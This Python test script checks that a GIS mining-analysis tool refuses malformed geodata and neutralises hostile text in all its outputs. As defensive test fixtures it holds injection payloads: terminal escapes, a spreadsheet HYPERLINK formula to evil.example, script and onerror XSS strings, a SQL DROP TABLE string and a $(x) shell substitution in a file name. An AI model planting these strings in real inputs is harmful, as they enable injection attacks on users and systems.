#!/usr/bin/env python3
"""test_robustness.py -- bad data that must not pass, and hostile text that
must come out of every output inert (issue 15, docs/robustness.md).

1. Refused, exit 2, one line on stderr naming the file, the feature and the
   reason, an existing output untouched: a NaN or infinite vertex, a
   degenerate ring, a repeated mine_id / redline_id / zone_id, a name that is
   not UTF-8, a repeated parcel_id too. --allow-duplicate-ids keeps both with a
   warning naming both (a parcel then counts once, and the registry records
   the second as 'duplicate').
2. Hostile values (terminal escapes, a spreadsheet formula, HTML/JS, SQL,
   quotes and newlines, a 100 kB string) in every text field, through
   analyze (GeoPackage, QGIS project, QML), check (JSON and table), ingest
   (SpatiaLite registry), progress (JSON, CSV, table) and report (HTML): each
   output is parsed by a second tool (sqlite3, json, csv, ElementTree,
   html.parser) and gives the values back exactly, or neutralised as
   documented; no ESC byte reaches a terminal, no formula a spreadsheet, no
   tag the HTML.
Usage: test_robustness.py GREENMINE WORKDIR
"""
import csv
import glob
import html.parser
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import xml.etree.ElementTree as ET

from osgeo import ogr

GM, WORK = sys.argv[1], sys.argv[2]
shutil.rmtree(WORK, ignore_errors=True)
os.makedirs(WORK)
os.chdir(WORK)
failures = []


def check(cond, what):
    if not cond:
        failures.append(what)
        print("FAIL:", what)


def run(*args):
    p = subprocess.run([GM, *args], capture_output=True)
    return p.returncode, p.stdout, p.stderr


def ring(x0, y0, x1, y1):
    return f"[[[{x0},{y0}],[{x1},{y0}],[{x1},{y1}],[{x0},{y1}],[{x0},{y0}]]]"


def write_fc(path, features):
    """features: (properties dict, coordinates text) -- text, so NaN can be written."""
    feats = ",".join(
        '{"type":"Feature","properties":%s,"geometry":{"type":"Polygon","coordinates":%s}}'
        % (json.dumps(props, ensure_ascii=False), coords) for props, coords in features)
    with open(path, "w", encoding="utf-8") as f:
        f.write('{"type":"FeatureCollection","crs":{"type":"name","properties":'
                '{"name":"urn:ogc:def:crs:EPSG::4490"}},"features":[%s]}\n' % feats)


MINE_A = ({"mine_id": "C1", "scale": "大型", "name": "甲矿"}, ring(112, 28, 112.01, 28.01))
MINE_B = ({"mine_id": "C2", "scale": "小型", "name": "乙矿"}, ring(112.02, 28, 112.03, 28.01))
write_fc("redlines.geojson", [({"redline_id": "R1", "name": "红线", "category": "nature_reserve"},
                               ring(112.005, 28, 112.015, 28.01))])
write_fc("parcels.geojson", [({"parcel_id": "P1", "kind": "restoration", "status": "completed",
                               "completed_on": "2018-01-01", "legacy": "1"},
                              ring(112.2, 28, 112.21, 28.01))])
write_fc("zones.geojson", [({"zone_id": "Z1", "name": "浏阳市"}, ring(111.9, 27.9, 112.4, 28.4))])
OTHERS = ["--redlines", "redlines.geojson", "--parcels", "parcels.geojson", "--zones",
          "zones.geojson"]

# ---- 1. bad data that must not pass ---------------------------------------------------------
with open("keep.gpkg", "w") as f:
    f.write("previous result")


def refused(what, needles, args, command="analyze"):
    if command == "analyze":
        args = args + ["-o", "keep.gpkg"]
    rc, out, err = run(command, *args)
    text = err.decode("utf-8", "replace")
    check(rc == 2, f"{what}: exit {rc}, expected 2: {text}")
    check(len(text.strip().splitlines()) == 1, f"{what}: one line on stderr, got: {text}")
    for n in needles:
        check(n in text, f"{what}: stderr lacks {n!r}: {text}")
    kept = open("keep.gpkg", "rb").read() == b"previous result"
    check(kept, f"{what}: the existing output was touched")
    if not kept:  # put it back, so that the next case is judged on its own
        with open("keep.gpkg", "w") as f:
            f.write("previous result")
    check(not glob.glob(".keep.gpkg*"), f"{what}: a temporary file was left behind")


write_fc("nan.geojson", [MINE_A, ({"mine_id": "C2", "scale": "小型"},
                                  "[[[112.02,28],[112.03,NaN],[112.03,28.01],[112.02,28]]]")])
refused("NaN vertex", ["nan.geojson (layer nan) feature 1 (mine_id C2)", "vertex 2",
                       "NaN or infinite"], ["--mines", "nan.geojson", *OTHERS])
write_fc("inf.geojson", [({"zone_id": "Z1", "name": "浏阳市"},
                          "[[[111.9,27.9],[112.4,27.9],[112.4,Infinity],[111.9,27.9]]]")])
write_fc("mines_ok.geojson", [MINE_A, MINE_B])
refused("infinite vertex", ["inf.geojson (layer inf) feature 0 (zone_id Z1)", "vertex 3"],
        ["--mines", "mines_ok.geojson", "--redlines", "redlines.geojson", "--parcels",
         "parcels.geojson", "--zones", "inf.geojson"])
# a ring of two distinct points: no area, so it must count nowhere -- refused
write_fc("degenerate.geojson", [MINE_A, ({"mine_id": "C2", "scale": "大型"},
                                         "[[[112.02,28],[112.03,28.01],[112.02,28]]]")])
refused("degenerate ring", ["degenerate.geojson (layer degenerate) feature 1 (mine_id C2)",
                            "degenerate geometry", "no area"],
        ["--mines", "degenerate.geojson", *OTHERS])
# ... but a mine whose shape is empty (null) is still a mine (contract): it counts in the share
with open("empty_mine.geojson", "w") as f:
    f.write('{"type":"FeatureCollection","crs":{"type":"name","properties":{"name":'
            '"urn:ogc:def:crs:EPSG::4490"}},"features":[%s,{"type":"Feature","properties":'
            '{"mine_id":"C3","scale":"大型"},"geometry":null}]}' % (
                '{"type":"Feature","properties":%s,"geometry":{"type":"Polygon","coordinates":%s}}'
                % (json.dumps(MINE_B[0], ensure_ascii=False), MINE_B[1])))
rc, out, err = run("analyze", "--quiet", "--no-rasters", "--mines", "empty_mine.geojson", *OTHERS,
                   "-o", "empty/out.gpkg")
check(rc == 0, f"empty mine: exit {rc}: {err!r}")
if rc == 0:
    ds = ogr.Open("empty/out.gpkg")
    ind = {f["indicator"]: f["value"] for f in ds.GetLayerByName("province_indicators")}
    check(ind.get("mines") == 2 and ind.get("large_medium_mines") == 1,
          f"empty mine counts in the share (2 mines, 1 large): {ind}")

# duplicate identifiers: refused for mines, red lines and zones, naming both features
write_fc("dup_mines.geojson", [MINE_A, ({"mine_id": "C1", "scale": "小型"}, MINE_B[1])])
refused("duplicate mine_id", ["dup_mines.geojson (layer dup_mines)", "features 0 and 1",
                              "mine_id 'C1'"], ["--mines", "dup_mines.geojson", *OTHERS])
write_fc("dup_redlines.geojson", [({"redline_id": "R1", "name": "a"}, ring(112, 28, 112.01, 28.01)),
                                  ({"redline_id": "R2", "name": "b"}, ring(112, 28, 112.02, 28.02)),
                                  ({"redline_id": "R1", "name": "c"}, ring(113, 28, 113.01, 28.01))])
refused("duplicate redline_id", ["features 0 and 2", "redline_id 'R1'"],
        ["--mines", "mines_ok.geojson", "--redlines", "dup_redlines.geojson", "--parcels",
         "parcels.geojson", "--zones", "zones.geojson"])
write_fc("dup_zones.geojson", [({"zone_id": "Z1", "name": "浏阳市"}, ring(111.9, 27.9, 112.1, 28.4)),
                               ({"zone_id": "Z1", "name": "平江县"}, ring(112.1, 27.9, 112.4, 28.4))])
refused("duplicate zone_id", ["features 0 and 1", "zone_id 'Z1'"],
        ["--mines", "mines_ok.geojson", "--redlines", "redlines.geojson", "--parcels",
         "parcels.geojson", "--zones", "dup_zones.geojson"])
# --allow-duplicate-ids keeps both, with a warning naming both
rc, out, err = run("analyze", "--no-rasters", "--allow-duplicate-ids", "--mines",
                   "dup_mines.geojson", *OTHERS, "-o", "dups/out.gpkg")
text = err.decode()
check(rc == 0 and "features 0 and 1 have the same mine_id 'C1'; both kept" in text,
      f"--allow-duplicate-ids: exit {rc}, {text}")
if rc == 0:
    ds = ogr.Open("dups/out.gpkg")  # held: its layers die with it
    ids = [f["mine_id"] for f in ds.GetLayerByName("mine_conflicts")]
    ds = None
    check(sorted(ids) == ["C1", "C1"], f"both duplicates kept: {ids}")
# a repeated parcel_id is refused too (which of the two is the parcel?); with
# --allow-duplicate-ids both are kept and warned, counted once by the union,
# and ingest records the second as a 'duplicate' version (docs/registry.md)
P1 = ({"parcel_id": "P1", "kind": "restoration", "status": "completed",
       "completed_on": "2018-01-01", "legacy": "1"}, ring(112.2, 28, 112.21, 28.01))
P1_PLANNED = ({"parcel_id": "P1", "kind": "restoration", "status": "planned"},
              ring(112.2, 28, 112.21, 28.01))
write_fc("dup_parcels.geojson", [P1, P1_PLANNED])
DUP_PARCELS = ["--mines", "mines_ok.geojson", "--redlines", "redlines.geojson", "--parcels",
               "dup_parcels.geojson", "--zones", "zones.geojson"]
refused("duplicate parcel_id", ["dup_parcels.geojson (layer dup_parcels)", "features 0 and 1",
                                "parcel_id 'P1'", "--allow-duplicate-ids"], DUP_PARCELS)
refused("ingest duplicate parcel_id", ["features 0 and 1", "parcel_id 'P1'"],
        ["--db", "dup_parcels.sqlite", "--as-of", "2018-12-31", *DUP_PARCELS], command="ingest")
check(not os.path.exists("dup_parcels.sqlite"), "a refused ingest creates no registry")
rc, out, err = run("analyze", "--no-rasters", "--allow-duplicate-ids", *DUP_PARCELS,
                   "-o", "dup_parcels/out.gpkg")
check(rc == 0 and "features 0 and 1 have the same parcel_id 'P1'; both kept" in err.decode(),
      f"duplicate parcel_id kept and warned with the option: exit {rc}, {err.decode()}")
if rc == 0:
    ds = ogr.Open("dup_parcels/out.gpkg")
    ind = {f["indicator"]: f["value"] for f in ds.GetLayerByName("province_indicators")}
    ds = None
    # the completed one counts, once: the rectangle's area by pyproj (GeographicLib)
    from pyproj import Geod
    lon, lat = [112.2, 112.21, 112.21, 112.2], [28, 28, 28.01, 28.01]
    want = abs(Geod(ellps="GRS80").polygon_area_perimeter(lon, lat)[0]) / 1e4
    got = ind.get("restoration_done_ha")
    check(got is not None and abs(got - want) <= 1e-6 * want,
          f"the kept duplicates count once: {got} ha, expected {want}")
rc, out, err = run("ingest", "--db", "dup_parcels.sqlite", "--as-of", "2018-12-31",
                   "--allow-duplicate-ids", *DUP_PARCELS)
check(rc == 0, f"ingest --allow-duplicate-ids: exit {rc}: {err.decode()}")
if rc == 0:
    db = sqlite3.connect("dup_parcels.sqlite")
    rows = db.execute("SELECT parcel_id, status, change FROM parcel_version ORDER BY seq").fetchall()
    db.close()
    check(rows == [("P1", "completed", "new"), ("P1", "planned", "duplicate")],
          f"the registry records the second P1 as a duplicate: {rows}")
# ingest refuses a duplicate mine too, and records nothing
refused("ingest duplicate mine_id", ["mine_id 'C1'"],
        ["--db", "dup.sqlite", "--as-of", "2018-12-31", "--parcels", "parcels.geojson", "--mines",
         "dup_mines.geojson"], command="ingest")
check(not os.path.exists("dup.sqlite"), "a refused ingest creates no registry")

# text that is not UTF-8 (a GeoPackage is UTF-8 by definition)
subprocess.run(["ogr2ogr", "-f", "GPKG", "badutf8.gpkg", "mines_ok.geojson", "-nln", "mines"],
               check=True)
subprocess.run(["ogrinfo", "-q", "badutf8.gpkg", "-sql",
                "UPDATE mines SET name = CAST(X'626164E4AF' AS TEXT) WHERE mine_id = 'C2'"],
               check=True, capture_output=True)
refused("invalid UTF-8", ["badutf8.gpkg (layer mines) feature 2 (mine_id C2)", "field name",
                          "not valid text", "byte 4"], ["--mines", "badutf8.gpkg", *OTHERS])
# ... and so in every text field of every layer: bytes that are not UTF-8 never reach an output
LAYERS = {"mines": ("mines_ok.geojson", "C2", "mine_id",
                    ["mine_id", "name", "mineral", "industry", "scale", "status", "green"]),
          "redlines": ("redlines.geojson", "R1", "redline_id", ["redline_id", "name", "category"]),
          "parcels": ("parcels.geojson", "P1", "parcel_id",
                      ["parcel_id", "kind", "status", "completed_on", "legacy"]),
          "zones": ("zones.geojson", "Z1", "zone_id", ["zone_id", "name"])}
for layer, (src, fid_id, id_col, cols) in LAYERS.items():
    for col in cols:
        path = f"bad_{layer}_{col}.gpkg"
        subprocess.run(["ogr2ogr", "-f", "GPKG", path, src, "-nln", layer, "-mapFieldType",
                        "Date=String"], check=True)
        ds = ogr.Open(path)  # held: its layer dies with it
        defn = ds.GetLayer(0).GetLayerDefn()
        have = {defn.GetFieldDefn(i).GetName() for i in range(defn.GetFieldCount())}
        defn = ds = None
        for c in cols:  # the fields the fixture lacks, as text
            if c not in have:
                subprocess.run(["ogrinfo", "-q", path, "-sql",
                                f"ALTER TABLE {layer} ADD COLUMN {c} TEXT"],
                               check=True, capture_output=True)
        subprocess.run(["ogrinfo", "-q", path, "-sql", f"UPDATE {layer} SET {col} = CAST("
                        f"X'626164E4AF' AS TEXT) WHERE {id_col} = '{fid_id}'"
                        if col != id_col else
                        f"UPDATE {layer} SET {col} = CAST(X'626164E4AF' AS TEXT)"],
                       check=True, capture_output=True)
        args = {"mines": ["--mines", "mines_ok.geojson"], "redlines": ["--redlines", "redlines.geojson"],
                "parcels": ["--parcels", "parcels.geojson"], "zones": ["--zones", "zones.geojson"]}
        args[layer] = [f"--{layer}", path]
        refused(f"invalid UTF-8 in {layer}.{col}", [f"{path} (layer {layer}) feature",
                                                    f"field {col}", "not valid text", "byte 4"],
                [a for v in args.values() for a in v])

# a WKT application with text after it (fuzz_applications: it used to be ignored)
refused("WKT with trailing text", ["application arg1 (command-line WKT)",
                                   "text after the geometry: '(.01 x'"],
        ["--redlines", "redlines.geojson",
         "POLYGON((112.2 28,112.21 28,112.21 28.01,112.2 28.01,112.2 28))(.01 x"], command="check")

# a GBK shapefile (the counties' usual form): decoded by its declared encoding -- the .cpg,
# or GBK guessed when it declares none, or --encoding -- and a value with bytes that do not
# decode there is refused, naming the feature, the field and the byte (GDAL's own recoding
# drops such bytes silently: the name would reach every output altered)
def gbk_mines(stem, names, cpg=True):
    from osgeo import osr
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(4490)
    ds = ogr.GetDriverByName("ESRI Shapefile").CreateDataSource(stem + ".shp")
    lyr = ds.CreateLayer(stem, srs, ogr.wkbPolygon, options=["ENCODING=CP936"])
    for col in ("KSBH", "KSMC", "GM"):
        lyr.CreateField(ogr.FieldDefn(col, ogr.OFTString))
    for i, name in enumerate(names):
        f = ogr.Feature(lyr.GetLayerDefn())
        f["KSBH"], f["KSMC"], f["GM"] = f"C{i + 1}", name, "大型"
        f.SetGeometry(ogr.CreateGeometryFromWkt(
            f"POLYGON(({112 + i * 0.02} 28,{112.01 + i * 0.02} 28,{112.01 + i * 0.02} 28.01,"
            f"{112 + i * 0.02} 28.01,{112 + i * 0.02} 28))"))
        lyr.CreateFeature(f)
    ds = None
    dbf = open(stem + ".dbf", "rb").read()
    # QQQQ stands for bytes GDAL cannot write: 矿 (BF F3 in GBK), then 0xFF, no GBK lead byte
    dbf = dbf.replace(b"QQQQ", b"\xbf\xf3\xffA")
    if not cpg:  # no .cpg, no code page in the .dbf: read as GBK
        os.remove(stem + ".cpg")
        dbf = dbf[:29] + b"\x00" + dbf[30:]
    open(stem + ".dbf", "wb").write(dbf)


for stem, cpg, extra in (("gbk_cpg", True, []), ("gbk_guess", False, []),
                         ("gbk_given", False, ["--encoding", "GBK"])):
    gbk_mines(stem + "_ok", ["甲矿山", "乙矿山"], cpg)
    rc, out, err = run("analyze", "--no-rasters", "--quiet", "--mines", stem + "_ok.shp", *OTHERS,
                       *extra, "-o", stem + "/out.gpkg")
    check(rc == 0, f"{stem}: a good GBK shapefile: exit {rc}: {err.decode()}")
    if rc == 0:
        ds = ogr.Open(stem + "/out.gpkg")
        names = sorted(f["name"] for f in ds.GetLayerByName("mine_conflicts"))
        ds = None
        check(names == ["乙矿山", "甲矿山"], f"{stem}: GBK names decoded: {names}")
    gbk_mines(stem, ["甲矿山", "QQQQ"], cpg)
    refused(f"{stem}: a byte that is not GBK",
            [f"{stem}.shp (layer {stem}) feature 1 (mine_id C2)", "field name",
             "not valid text in its declared encoding", "byte 3"],
            ["--mines", stem + ".shp", *OTHERS, *extra])

# ---- 2. hostile values in every text field ----------------------------------------------------
ESC = "\x1b[31m红\x1b]0;pwned\x07"
FORMULA = '=HYPERLINK("http://evil.example/?x","click")'
HTML = '</title></script><script>alert(1)</script><img src=x onerror=alert(2)>'
SQL = "x'); DROP TABLE mine_version; --"
QUOTES = 'a "b" \'c\' \\ d\nnew line\ttab'
BIG = "长" * 35000  # 105 kB of UTF-8
write_fc("h_mines.geojson", [
    ({"mine_id": SQL, "scale": "大型", "name": ESC, "mineral": HTML}, ring(112, 28, 112.01, 28.01)),
    ({"mine_id": QUOTES, "scale": "小型", "name": BIG, "mineral": FORMULA},
     ring(112.02, 28, 112.03, 28.01)),
    ({"mine_id": FORMULA, "scale": "中型", "name": HTML}, ring(112.05, 28, 112.06, 28.01))])
write_fc("h_redlines.geojson", [({"redline_id": HTML, "name": QUOTES, "category": SQL},
                                 ring(112.005, 28, 112.015, 28.01))])
write_fc("h_parcels.geojson", [({"parcel_id": ESC, "kind": "restoration", "status": "completed",
                                 "completed_on": "2018-01-01", "legacy": "1"},
                                ring(112.2, 28, 112.21, 28.01))])
write_fc("h_zones.geojson", [({"zone_id": ESC, "name": FORMULA}, ring(111.9, 27.9, 112.15, 28.4)),
                             ({"zone_id": "Z2", "name": ESC + HTML},
                              ring(112.15, 27.9, 112.4, 28.4))])
H = ["--mines", "h_mines.geojson", "--redlines", "h_redlines.geojson", "--parcels",
     "h_parcels.geojson", "--zones", "h_zones.geojson"]
HOSTILE = [ESC, FORMULA, HTML, SQL, QUOTES, BIG]


def no_escape(what, data):
    check(b"\x1b" not in data and b"\x07" not in data, f"{what}: an ESC/BEL byte reached the output")


rc, out, err = run("analyze", *H, "-o", "h/out.gpkg")
check(rc == 0, f"hostile analyze: exit {rc}: {err[:500]!r}")
no_escape("analyze stdout", out)
no_escape("analyze stderr", err)
if rc == 0:
    ds = ogr.Open("h/out.gpkg")
    mines = {f["mine_id"]: f for f in ds.GetLayerByName("mine_conflicts")}
    check(set(mines) == {SQL, QUOTES, FORMULA}, f"mine ids round-trip exactly: {list(mines)}")
    check(mines.get(QUOTES) is not None and mines[QUOTES]["name"] == BIG, "the 100 kB name intact")
    check(mines.get(SQL) is not None and mines[SQL]["name"] == ESC, "ESC name stored as data")
    zones = {f["zone_id"]: f["name"] for f in ds.GetLayerByName("zone_progress")}
    check(zones == {ESC: FORMULA, "Z2": ESC + HTML}, f"zones round-trip: {zones}")
    ds = None
    for path in glob.glob("h/*.qgs") + glob.glob("h/*.qml"):
        try:
            ET.parse(path)
        except ET.ParseError as e:
            check(False, f"{path} is not well-formed XML: {e}")
        no_escape(path, open(path, "rb").read())

# check: JSON parses and gives the values back; the table shows no escape sequence
rc, out, err = run("check", "--redlines", "h_redlines.geojson", "--zones", "h_zones.geojson",
                   "--mines", "h_mines.geojson", "--json",
                   "POLYGON((112.004 28.002,112.012 28.002,112.012 28.008,112.004 28.008,"
                   "112.004 28.002))")
check(rc in (0, 3), f"check --json: exit {rc}: {err[:300]!r}")
try:
    doc = json.loads(out)
    app = doc["applications"][0]
    check(app["redlines"][0]["id"] == HTML and app["redlines"][0]["name"] == QUOTES
          and app["redlines"][0]["category"] == SQL, f"check JSON red line: {app['redlines']}")
    check(app["zone"] == FORMULA, f"check JSON zone: {app['zone']!r}")
    check(b"</script" not in out and b"<img" not in out, "check JSON carries a raw tag")
except (ValueError, KeyError, IndexError) as e:
    check(False, f"check --json is not the JSON expected: {e}: {out[:300]!r}")
rc, out, err = run("check", "--redlines", "h_redlines.geojson", "--zones", "h_zones.geojson",
                   "--mines", "h_mines.geojson",
                   "POLYGON((112.004 28.002,112.012 28.002,112.012 28.008,112.004 28.008,"
                   "112.004 28.002))")
no_escape("check table", out + err)

# ingest, progress, report: the registry keeps the values as data
rc, out, err = run("ingest", "--db", "h.sqlite", "--as-of", "2018-12-31", *H)
check(rc == 0, f"hostile ingest: exit {rc}: {err[:300]!r}")
no_escape("ingest output", out + err)
if rc == 0:
    db = sqlite3.connect("h.sqlite")
    check(db.execute("PRAGMA integrity_check").fetchone()[0] == "ok", "registry integrity")
    got = {r[0] for r in db.execute("SELECT mine_id FROM mine_version")}
    check(got == {SQL, QUOTES, FORMULA}, f"registry mine ids exactly as given: {got}")
    got = {r[0] for r in db.execute("SELECT name FROM mine_version")}
    check(got == {ESC, BIG, HTML}, "registry mine names exactly as given")
    db.close()
    rc, out, err = run("progress", "--db", "h.sqlite", "--json")
    try:
        doc = json.loads(out)
        zs = {(r["zone_id"], r["zone"]) for r in doc["series"] if r["zone"] is not None}
        check(zs == {(ESC, FORMULA), ("Z2", ESC + HTML)}, f"progress JSON zones: {zs}")
    except (ValueError, KeyError) as e:
        check(False, f"progress --json is not JSON: {e}: {out[:300]!r}")
    rc, out, err = run("progress", "--db", "h.sqlite", "--csv")
    no_escape("progress --csv", out)
    rows = list(csv.DictReader(io.StringIO(out.decode())))
    check(len(rows) == 3, f"progress --csv: 3 rows, got {len(rows)}")
    for r in rows:
        for col in ("zone", "zone_id"):
            check(not r[col] or r[col][0] not in "=+-@\t\r", f"CSV {col} is a formula: {r[col]!r}")
    zone_cells = {r["zone"] for r in rows}
    check("'" + FORMULA in zone_cells, f"the formula zone kept, neutralised: {zone_cells}")
    rc, out, err = run("progress", "--db", "h.sqlite")
    no_escape("progress table", out + err)
    check("\\x1B[31m" in out.decode(), "progress table shows the escape as text")
    rc, out, err = run("report", "--db", "h.sqlite", "-o", "h_report.html")
    check(rc == 0, f"report: exit {rc}: {err[:300]!r}")

# a hostile output name: the QGIS project names its GeoPackage, the report its run
NAME = 'a&b<c>"d\' $(x)'
rc, out, err = run("analyze", "--quiet", "--cell", "500", *H, "-o", f"hn/{NAME}.gpkg")
check(rc == 0, f"hostile output name: exit {rc}: {err[:300]!r}")
if rc == 0:
    try:
        root = ET.parse(f"hn/{NAME}.qgs").getroot()
        sources = [e.get("source") for e in root.iter("layer-tree-layer")
                   if e.get("providerKey") == "ogr"]
        check(sources and all(x.startswith(f"./{NAME}.gpkg|layername=") for x in sources),
              f"the project names its GeoPackage exactly: {sources[:2]}")
        ds_text = [e.text for e in root.iter("datasource")]
        check(any(t and t.startswith(f"./{NAME}.gpkg|") for t in ds_text),
              f"the project's datasources name the GeoPackage: {ds_text[:2]}")
    except ET.ParseError as e:
        check(False, f"the project of a hostile name is not well-formed XML: {e}")
    for path in glob.glob("hn/*.qml"):
        ET.parse(path)
for page, cmd in (("h_report.html", None),
                  ("h_run.html", ["report", "--gpkg", "h/out.gpkg", "-o", "h_run.html"]),
                  ("h_name.html", ["report", "--gpkg", f"hn/{NAME}.gpkg", "-o", "h_name.html"])):
    if cmd:
        rc, out, err = run(*cmd)
        check(rc == 0, f"report --gpkg: exit {rc}: {err[:300]!r}")
    if not os.path.exists(page):
        continue
    data = open(page, "rb").read()
    no_escape(page, data)

    class Tags(html.parser.HTMLParser):
        def __init__(self):
            super().__init__()
            self.bad = []
            self.text = []

        def handle_starttag(self, tag, attrs):
            if tag in ("script", "img") or any(k.startswith("on") for k, _ in attrs):
                self.bad.append((tag, attrs))

        def handle_data(self, d):
            self.text.append(d)

    t = Tags()
    t.feed(data.decode())
    check(not t.bad, f"{page}: hostile text became markup: {t.bad[:3]}")
    check(HTML in "".join(t.text), f"{page}: the HTML-like name shown as text")

print(f"test_robustness: {len(failures)} failed")
sys.exit(1 if failures else 0)
